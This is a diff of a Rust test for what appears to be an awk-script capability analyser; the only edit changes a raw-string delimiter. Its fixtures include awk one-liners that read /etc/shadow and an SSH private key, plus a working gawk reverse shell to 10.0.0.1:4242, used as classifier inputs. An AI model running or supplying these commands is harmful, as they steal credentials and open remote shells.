@@ -20,7 +20,7 @@ fn commands_files_and_sockets() {
             (r#"{ print > ("out/" $1 ".txt") }"#, "write out/*.txt?"),
             (r#"BEGIN { while ((getline line < "/etc/shadow") > 0) print line }"#, "read /etc/shadow"),
             (r#"BEGIN { getline x < (ENVIRON["HOME"] "/.ssh/id_rsa"); print x }"#, "read ~/.ssh/id_rsa"),
-            (r#"{ $1 | getline y }"#, "shell *?"),
+            (r"{ $1 | getline y }", "shell *?"),
             (
                 r#"BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}"#,
                 "connect tcp://10.0.0.1:4242; runs-fetched; shell *?; connect tcp://10.0.0.1:4242; reverse-shell",
